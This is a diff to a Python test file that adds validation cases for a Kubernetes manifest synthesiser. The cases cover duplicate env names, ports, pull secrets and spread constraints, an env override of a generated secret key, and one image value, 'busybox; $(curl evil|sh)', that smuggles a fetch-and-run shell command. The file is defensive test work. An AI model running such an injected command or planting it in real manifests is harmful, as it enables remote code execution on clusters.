@@ -279,6 +279,109 @@ CASES: list[tuple[str, Mutation, dict[str, Any] | None]] = [
         {"networking": {"service": {"port": 0}}},
     ),
     ("namespace-upper", set_in("ServiceAccount/demo", ("metadata", "namespace"), "Hostile"), None),
+    # Lists merged by key (x-kubernetes-list-map-keys): server-side apply refuses a repeated key
+    # (a plain create accepts it), and so does synth.
+    (
+        "env-name-duplicate",
+        on_statefulset(
+            lambda o: (
+                server(o)
+                .setdefault("env", [])
+                .extend([{"name": "A", "value": "1"}, {"name": "A", "value": "2"}])
+            )
+        ),
+        {"env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]},
+    ),
+    (
+        "env-overrides-generated-secret",
+        add_env("PAPERCLIP_SECRETS_MASTER_KEY"),
+        {"env": [{"name": "PAPERCLIP_SECRETS_MASTER_KEY", "value": "x"}]},
+    ),
+    (
+        "env-overrides-generated-literal-ok",
+        add_env("PAPERCLIP_LOG_LEVEL"),
+        {"env": [{"name": "PAPERCLIP_LOG_LEVEL", "value": "debug"}]},
+    ),
+    (
+        "sidecar-env-duplicate",
+        add_sidecar(env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]),
+        {
+            "sidecars": [
+                {
+                    "name": "s",
+                    "image": "b:1",
+                    "env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}],
+                }
+            ]
+        },
+    ),
+    (
+        "pull-secrets-duplicate",
+        set_pod("imagePullSecrets", [{"name": "r"}, {"name": "r"}]),
+        {"image": {"pullSecrets": [{"name": "r"}, {"name": "r"}]}},
+    ),
+    (
+        "container-port-duplicate",
+        add_sidecar(ports=[{"containerPort": 80}, {"containerPort": 80}]),
+        {
+            "sidecars": [
+                {
+                    "name": "s",
+                    "image": "b:1",
+                    "ports": [{"containerPort": 80}, {"containerPort": 80}],
+                }
+            ]
+        },
+    ),
+    (
+        "container-port-duplicate-default-protocol",
+        add_sidecar(ports=[{"containerPort": 80}, {"containerPort": 80, "protocol": "TCP"}]),
+        {
+            "sidecars": [
+                {
+                    "name": "s",
+                    "image": "b:1",
+                    "ports": [{"containerPort": 80}, {"containerPort": 80, "protocol": "TCP"}],
+                }
+            ]
+        },
+    ),
+    (
+        "container-port-other-protocol-ok",
+        add_sidecar(ports=[{"containerPort": 53}, {"containerPort": 53, "protocol": "UDP"}]),
+        {
+            "sidecars": [
+                {
+                    "name": "s",
+                    "image": "b:1",
+                    "ports": [{"containerPort": 53}, {"containerPort": 53, "protocol": "UDP"}],
+                }
+            ]
+        },
+    ),
+    (
+        "topology-spread-duplicate",
+        set_pod(
+            "topologySpreadConstraints",
+            [
+                {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
+                {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
+            ],
+        ),
+        {
+            "availability": {
+                "topologySpreadConstraints": [
+                    {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
+                    {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
+                ]
+            }
+        },
+    ),
+    (
+        "container-image-shell",
+        add_sidecar(image="busybox; $(curl evil|sh)"),
+        {"sidecars": [{"name": "s", "image": "busybox; $(curl evil|sh)"}]},
+    ),
 ]
 
 
@@ -290,8 +393,17 @@ ACCEPTED = {
     "container-image-whitespace",  # refused only when a pod is created from the template
     "quantity-huge-exponent",
     "annotation-key-upper-prefix-ok",  # annotation keys are checked lower-cased
+    "env-overrides-generated-literal-ok",  # the generated literal is in the ConfigMap (envFrom)
+    "container-port-other-protocol-ok",  # ports are merged by containerPort and protocol
+    "container-image-shell",  # refused only when a pod is created; synth checks the grammar
 }
-SYNTH_ACCEPTS = {"env-name-space-relaxed", "env-name-digit-first", "annotation-key-upper-prefix-ok"}
+SYNTH_ACCEPTS = {
+    "env-name-space-relaxed",
+    "env-name-digit-first",
+    "annotation-key-upper-prefix-ok",
+    "env-overrides-generated-literal-ok",
+    "container-port-other-protocol-ok",
+}
 # accepted, but stored as another number: synth must refuse these above all
 WRAPPED = {
     "container-port-2pow32": ("spec", "template", "spec", "containers", 1, "ports", 0),
